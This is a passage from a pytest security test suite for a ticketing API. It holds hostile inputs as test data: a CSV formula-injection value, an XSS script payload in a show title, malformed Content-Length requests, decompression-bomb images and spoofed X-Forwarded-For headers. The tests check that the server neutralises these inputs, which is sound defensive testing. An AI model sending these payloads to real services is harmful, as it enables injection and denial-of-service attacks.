        f"/shows/{show_id}/cancel", json={"reason": "=2+5 refund"}, headers=auth(owner)
    )
    assert r.status_code == 200, r.text
    last = r.json()["position"]

    def csv_rows() -> list[dict[str, str]] | None:
        r = api.http.get(
            f"/shows/{show_id}/attendees.csv", params={"after": last}, headers=auth(owner)
        )
        assert r.status_code in (200, 503), r.text
        if r.status_code != 200:
            return None
        rows = list(csv.DictReader(io.StringIO(r.text)))
        return rows if rows and all(row["status"] == CANCELLED for row in rows) else None

    rows = wait_until(csv_rows, 60, "the cancelled bookings in the CSV")
    assert sorted(row["customer_name"] for row in rows) == sorted("'" + n for n in names)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_sales_ranges_too_long_or_out_of_time_are_a_clear_422(system: SagaSystem, owner: Who):
    api = system.api
    show_id = new_show(api, owner)
    position = head_position(api)

    def sales(**params: str) -> httpx.Response:
        return api.http.get(
            f"/shows/{show_id}/sales",
            params={"after": str(position), **params},
            headers=auth(owner),
        )

    r = sales(bucket="minute", **{"from": "2000-01-01T00:00:00Z", "to": "2100-01-01T00:00:00Z"})
    assert r.status_code == 422, r.text
    assert problem_type(r) == "range-too-large"
    for start, end, bucket in (
        ("0001-01-01T00:00:00+14:00", "0001-01-02T00:00:00+00:00", "day"),
        ("9999-12-31T00:00:00-14:00", "9999-12-31T23:59:59-14:00", "day"),
        ("9999-12-31T22:00:00Z", "9999-12-31T23:59:59Z", "day"),
        ("0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "day"),
    ):
        r = sales(bucket=bucket, **{"from": start, "to": end})
        assert r.status_code == 422, (start, end, r.text)
        assert problem_type(r) in ("invalid-range", "range-too-large", "validation-error")
    r = sales(bucket="fortnight")
    assert r.status_code == 422, r.text


# --- posters ---


def test_a_hostile_title_is_text_in_the_placeholder_svg(system: SagaSystem, owner: Who):
    api = system.api
    title = '</tspan></text><script>alert(1)</script><text onload="alert(2)">&amp;"\'x'
    r = api.http.post("/shows", json=show_body(title=title), headers=auth(owner))
    assert r.status_code == 201, r.text
    show_id = r.json()["show_id"]

    r = api.http.get(f"/shows/{show_id}/poster", params={"after": r.json()["position"]})

    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("image/svg+xml")
    assert r.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in r.headers["content-security-policy"]
    root = ET.fromstring(r.content)  # well-formed XML
    tags = {element.tag.rsplit("}", 1)[-1] for element in root.iter()}
    assert tags <= {"svg", "rect", "text", "tspan"}, tags
    for element in root.iter():
        assert not any(name.lower().startswith("on") for name in element.attrib), element.attrib
    assert root.attrib["aria-label"] == title


def raw_request(api: Api, head: str, body: bytes, hang_up: bool = False) -> bytes:
    """Send bytes as they are (a lying Content-Length) and read what the server answers; or,
    `hang_up`, close the connection at once as a client giving up midway does."""
    url = urlsplit(api.server_url)
    assert url.hostname is not None and url.port is not None
    with socket.create_connection((url.hostname, url.port), timeout=30) as conn:
        conn.sendall(head.encode() + body)
        if hang_up:
            return b""
        answer = b""
        try:
            while chunk := conn.recv(65536):
                answer += chunk
        except ConnectionResetError:
            pass  # the server closed with our surplus bytes unread: what it said came first
    return answer


def request_head(method: str, path: str, length: int, content_type: str, token: str = "") -> str:
    authorization = f"Authorization: {token}\r\n" if token else ""
    return (
        f"{method} {path} HTTP/1.1\r\nHost: test\r\n{authorization}"
        f"Content-Type: {content_type}\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n"
    )


def status_of(answer: bytes) -> int:
    assert answer.startswith(b"HTTP/1.1 "), answer[:300]
    return int(answer.split(b" ", 2)[1])


def test_a_poster_upload_with_a_lying_content_length_is_refused_cleanly(
    system: SagaSystem, owner: Who
):
    api = system.api
    show_id = new_show(api, owner)
    image = png(300, 300)
    path = urlsplit(api.base_url).path + f"/shows/{show_id}/poster"
    token = owner["Authorization"]

    # Says less than it sends: what it declared is a truncated image; the rest is not read.
    half = len(image) // 2
    answer = raw_request(api, request_head("PUT", path, half, "image/png", token), image)
    assert status_of(answer) == 422, answer[:300]
    # Says more than the limit: refused before the body is read.
    big = 6 * 1024 * 1024
    answer = raw_request(api, request_head("PUT", path, big, "image/png", token), image)
    assert status_of(answer) == 413, answer[:300]
    # Not a number, or negative.
    for declared in ("12abc", "-5", "1e6"):
        head = request_head("PUT", path, 0, "image/png", token).replace(
            "Content-Length: 0", f"Content-Length: {declared}"
        )
        answer = raw_request(api, head, image)
        assert status_of(answer) in (400, 413), answer[:300]
    # Nothing was stored: the placeholder still shows, and the server still serves.
    r = api.http.get(f"/shows/{show_id}/poster", params={"after": head_position(api)})
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("image/svg+xml")


def requests_counted(api: Api, method: str, route: str) -> dict[str, float]:
    """The app's request counter for one route, by status (from /metrics)."""
    text = httpx.get(api.server_url + "/metrics", timeout=10).text
    counted: dict[str, float] = {}
    prefix = f'ticketblitz_http_requests_total{{method="{method}",route="{route}",status="'
    for line in text.splitlines():
        if line.startswith(prefix):
            status = line[len(prefix) :].split('"', 1)[0]
            counted[status] = float(line.split()[-1])
    return counted


def test_a_body_the_client_abandons_midway_is_no_server_error(system: SagaSystem, owner: Who):
    """A client that hangs up in the middle of its body (declared 1 MiB, sent 1 KiB) is the
    client's failure, not the server's: no 500 counted (an alert anyone could set off) and no
    unhandled exception logged."""
    api = system.api
    show_id = new_show(api, owner)
    prefix = urlsplit(api.base_url).path
    routes = [
        (
            "PUT",
            f"{prefix}/shows/{{show_id}}/poster",
            f"{prefix}/shows/{show_id}/poster",
            "image/png",
        ),
        (
            "POST",
            f"{prefix}/payments/stripe/webhook",
            f"{prefix}/payments/stripe/webhook",
            "application/json",
        ),
        ("POST", f"{prefix}/auth/register", f"{prefix}/auth/register", "application/json"),
    ]
    for method, route, path, content_type in routes:
        before = requests_counted(api, method, route)
        head = request_head(method, path, 200_000, content_type, owner["Authorization"])
        raw_request(api, head, b"{" + b"0" * 1023, hang_up=True)

        def counted(
            method: str = method, route: str = route, before: dict[str, float] = before
        ) -> dict[str, float] | None:
            now = requests_counted(api, method, route)
            return now if sum(now.values()) > sum(before.values()) else None

        after = wait_until(counted, 30, f"the abandoned {method} {route} counted")
        server_errors = {
            status: n - before.get(status, 0)
            for status, n in after.items()
            if status.startswith("5") and n != before.get(status, 0)
        }
        assert server_errors == {}, (method, route, after)


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims `width` x `height` pixels (its data is a few bytes)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def animated_webp(frames: int, side: int) -> bytes:
    images = [Image.new("RGB", (side, side), (n % 256, 0, 0)) for n in range(frames)]
    out = io.BytesIO()
    images[0].save(
        out, "WEBP", save_all=True, append_images=images[1:], duration=10, lossless=False
    )
    return out.getvalue()


def test_huge_or_animated_posters_are_refused_or_tamed_never_a_500(system: SagaSystem, owner: Who):
    api = system.api
    show_id = new_show(api, owner)

    def upload(data: bytes, kind: str) -> httpx.Response:
        headers = {**auth(owner), "Content-Type": kind}
        return api.http.put(f"/shows/{show_id}/poster", content=data, headers=headers)

    for width, height in ((100_000, 100_000), (1, 50_000_000), (65_535, 65_535), (0, 10)):
        r = upload(png_claiming(width, height), "image/png")
        assert r.status_code == 422, (width, height, r.text)
        assert problem_type(r) == "invalid-image"
    bomb = animated_webp(frames=300, side=1500)
    assert len(bomb) < 5 * 1024 * 1024
    r = upload(bomb, "image/webp")
    assert r.status_code in (200, 422), r.text
    if r.status_code == 200:
        assert r.json()["width"] <= 2000 and r.json()["height"] <= 2000
        got = api.http.get(f"/shows/{show_id}/poster", params={"after": r.json()["position"]})
        assert got.headers["content-type"] == "image/webp"
        with Image.open(io.BytesIO(got.content)) as stored:
            assert getattr(stored, "n_frames", 1) == 1  # one still image, not 300 frames


# --- mass account creation ---


def test_mass_registration_from_one_address_is_throttled_whatever_it_forwards(
    system: SagaSystem,
):
    """A bot registering accounts in bulk from one address is slowed down, also when it
    writes a new X-Forwarded-For each time (no proxy is trusted: the peer counts)."""
    limited = system.settings.model_copy(update={"rate_limit_register_per_minute": 4})
    container = bootstrap(limited)
    try:
        with served(container) as bot:
            answers = [
                bot.http.post(
                    "/auth/register",
                    json={
                        "email": f"bot-{uuid4().hex[:10]}@example.com",
                        "password": "correct horse battery",
                        "name": "Bot",
                    },
                    headers={"X-Forwarded-For": f"198.51.100.{n}"},
                )
                for n in range(1, 11)
            ]
    finally:
        container.close()

    created = [r for r in answers if r.status_code == 201]
    refused = [r for r in answers if r.status_code == 429]
    assert len(created) + len(refused) == len(answers), [r.text for r in answers]
    assert len(created) <= 5, len(created)  # 4 a minute, and at most one more refilled
    assert refused and all(int(r.headers["Retry-After"]) >= 1 for r in refused)
    assert {problem_type(r) for r in refused} == {"rate-limited"}
